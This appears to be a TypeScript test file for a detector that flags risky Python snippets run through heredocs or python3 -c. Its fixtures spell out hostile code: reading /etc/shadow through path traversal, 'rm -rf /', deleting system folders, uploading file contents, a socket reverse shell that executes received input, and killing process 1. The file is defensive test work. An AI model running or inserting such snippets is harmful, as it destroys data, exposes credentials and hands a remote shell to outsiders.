import { describe, expect, it } from 'vitest';
import { rulesFor } from './test-helpers.js';

const py = (code: string) => rulesFor(`python3 - <<'EOF'\n${code}\nEOF`);

describe('python heredoc and -c analysis', () => {
  it('follows string constants and os.path.join into file access', async () => {
    expect(
      await py("import os\nbase = '/var'\nname = '../etc/shadow'\nopen(os.path.join(base, name)).read()"),
    ).toContain('read.password-db');
    expect(await py("p = '/usr/local/bin/tool'\nwith open(p, 'w') as f:\n    f.write('x')")).toContain(
      'write.system',
    );
    expect(await py("with open('notes.txt', 'w') as f:\n    f.write('x')")).toEqual([]);
  });

  it('sees deletion, copying and listing outside the workspace', async () => {
    expect(await py("import shutil\nshutil.rmtree('/opt/app')")).toContain('destroy.delete-system');
    expect(await py("import shutil\nshutil.copy('/etc/ssh/sshd_config', 'x')")).toContain('read.sensitive');
    expect(await py("import os\nprint(os.listdir('/root'))")).toContain('read.sensitive');
  });

  it('analyses literal shell commands and flags built ones', async () => {
    expect(await py("import os\nos.system('rm -rf /')")).toContain('destroy.rm-root');
    expect(await py("import subprocess\nsubprocess.run(['cat', '/etc/shadow'])")).toContain(
      'read.password-db',
    );
    expect(await py('import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)')).toContain(
      'exec.interpreter-code',
    );
  });

  it('tells network use apart by host, and spots uploads and reverse shells', async () => {
    expect(await py("import requests\nrequests.get('https://pypi.org/simple/')")).toEqual([]);
    expect(await py("import requests\nrequests.get('https://data.example.net/x')")).toContain(
      'net.fetch-unlisted',
    );
    expect(await py("import requests\nrequests.post('https://pypi.org/x', data=open('a').read())")).toContain(
      'net.upload',
    );
    expect(
      await py(
        "from socket import socket, AF_INET\nfrom subprocess import Popen\ns = socket(AF_INET)\ns.connect(('192.0.2.4', 9))\nPopen(s.recv(64), shell=True)",
      ),
    ).toContain('revshell.interpreter');
  });

  it('flags eval of run-time text, process killing and obfuscated one-liners', async () => {
    expect(await py('def calc(s):\n    return eval(s)\ncalc(input())')).toContain('exec.interpreter-code');
    expect(await py('import os, signal\nos.kill(1, signal.SIGKILL)')).toContain('exec.signal');
    expect(await rulesFor(`python3 -c "import base64;print(base64.b64decode('aGk='))"`)).toContain(
      'evade.obfuscated',
    );
    expect(await py("print(eval('1 + 2'))")).toEqual([]);
  });
});
